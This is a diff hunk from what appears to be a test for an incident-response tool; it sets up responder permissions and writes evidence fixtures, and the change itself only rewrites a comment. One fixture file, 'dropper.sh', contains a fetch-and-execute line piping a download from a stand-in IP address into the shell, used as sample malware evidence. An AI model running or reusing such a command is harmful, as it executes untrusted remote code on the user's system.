@@ -99,8 +99,7 @@ beforeAll(async () => {
   );
   for (const scope of [`device:${deviceId}`, `case:${CASE}`])
     await alice.grant({ name: "rita", role: "responder", scope });
-  // what the analyst will look at and take, and a tree big enough that a findfile over it is still
-  // walking when it is cancelled
+  // what the analyst will look at and take (the cancelled findfile walks the whole filesystem instead)
   spawnSync("mkdir", ["-p", evidence]);
   writeFileSync(join(evidence, "dropper.sh"), "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
   writeFileSync(join(evidence, "notes.txt"), "second file\n");
